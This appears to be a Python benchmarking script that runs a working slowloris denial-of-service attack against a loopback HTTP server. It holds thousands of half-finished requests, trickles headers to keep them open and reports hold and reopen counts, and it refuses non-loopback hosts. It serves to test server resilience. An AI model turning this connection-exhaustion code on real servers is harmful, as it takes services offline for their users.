#!/usr/bin/env python3
"""Slowloris attacker for bench/dos.sh: holds N connections to a loopback server, each with an
unfinished HTTP/1.1 request head, and reopens every connection the server closes.

Question it lets dos.sh answer: while N connections trickle request heads, how many can the
attacker keep open, and how often must it reopen them?

Each of the N slots: connect (new connections are paced to at most --rate per second, shared by
all slots), send a request line and two headers without the blank line that ends the head, then
every --interval seconds (jittered by +-20 %) one more header line.  When the server answers
(e.g. 408) or closes or resets the connection, the slot counts it and connects again, as a real
slowloris does.  A connection is "held" from the end of its connect until the server is seen to
close it; one waiting in the server's accept queue counts as held too (the client cannot tell).

Output: one JSON line per --status-every seconds on stdout:
    {"t": epoch, "held": ..., "opened": ..., "reopened": ..., "closed_by_server": ...,
     "answered": ..., "connect_errors": ..., "trickled": ...}
counters being totals since start; the last line (at --duration or SIGTERM/SIGINT) adds
"final": true.  Standard library only; loopback targets only.

Usage: slowloris.py --port P [--host 127.0.0.1] [-n 5000] [--interval 5] [--rate 1000]
                    [--duration 120]
"""

import argparse
import asyncio
import ipaddress
import json
import random
import resource
import signal
import sys
import time

MAX_DURATION = 3600.0


class Stats:
    def __init__(self):
        self.held = 0
        self.opened = 0
        self.reopened = 0
        self.closed_by_server = 0
        self.answered = 0
        self.connect_errors = 0
        self.trickled = 0

    def line(self, final=False):
        d = {"t": round(time.time(), 3), **vars(self)}
        if final:
            d["final"] = True
        return json.dumps(d)


class Pacer:
    """Spaces connection attempts 1/rate seconds apart, across all slots."""

    def __init__(self, rate):
        self.gap = 1.0 / rate
        self.next = 0.0

    async def wait(self):
        loop = asyncio.get_running_loop()
        now = loop.time()
        at = max(now, self.next)
        self.next = at + self.gap
        if at > now:
            await asyncio.sleep(at - now)


async def slot(i, a, stats, pacer, stop):
    head = (f"GET /test.html?slot={i} HTTP/1.1\r\nHost: bench.local\r\n"
            "User-Agent: slowloris-bench\r\n").encode()
    first = True
    while not stop.is_set():
        await pacer.wait()
        if stop.is_set():
            return
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(a.host, a.port), 10)
        except (OSError, asyncio.TimeoutError):
            stats.connect_errors += 1
            await asyncio.sleep(1)
            continue
        stats.opened += 1
        if not first:
            stats.reopened += 1
        first = False
        stats.held += 1
        try:
            writer.write(head)
            await writer.drain()
            k = 0
            while not stop.is_set():
                wait = a.interval * random.uniform(0.8, 1.2)
                try:
                    data = await asyncio.wait_for(reader.read(4096), wait)
                except asyncio.TimeoutError:
                    k += 1
                    writer.write(f"X-Slow-{k}: {k}\r\n".encode())
                    await writer.drain()
                    stats.trickled += 1
                    continue
                if data:
                    stats.answered += 1
                stats.closed_by_server += 1
                break
        except OSError:  # reset, broken pipe: the server closed it
            stats.closed_by_server += 1
        finally:
            stats.held -= 1
            writer.close()


async def main_async(a):
    stats, stop = Stats(), asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    pacer = Pacer(a.rate)
    tasks = [asyncio.create_task(slot(i, a, stats, pacer, stop)) for i in range(a.n)]
    end = loop.time() + a.duration
    while not stop.is_set() and loop.time() < end:
        try:
            await asyncio.wait_for(stop.wait(), min(a.status_every, max(0.0, end - loop.time())))
        except asyncio.TimeoutError:
            pass
        print(stats.line(), flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(stats.line(final=True), flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("-n", type=int, default=5000, help="connections to hold")
    ap.add_argument("--interval", type=float, default=5.0, help="seconds between trickled header lines")
    ap.add_argument("--rate", type=float, default=1000.0, help="new connections per second, at most")
    ap.add_argument("--duration", type=float, default=120.0, help=f"seconds to run (at most {MAX_DURATION:.0f})")
    ap.add_argument("--status-every", type=float, default=1.0)
    a = ap.parse_args()
    if not ipaddress.ip_address(a.host).is_loopback:
        sys.exit("slowloris.py: loopback targets only")
    if not (0 < a.duration <= MAX_DURATION and a.n > 0 and a.rate > 0 and a.interval > 0):
        sys.exit("slowloris.py: need 0 < duration <= 3600, n > 0, rate > 0, interval > 0")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.n + 64
    if soft < want:
        if hard != resource.RLIM_INFINITY and hard < want:
            sys.exit(f"slowloris.py: -n {a.n} needs {want} file descriptors, the hard limit is {hard}")
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    asyncio.run(main_async(a))


if __name__ == "__main__":
    main()
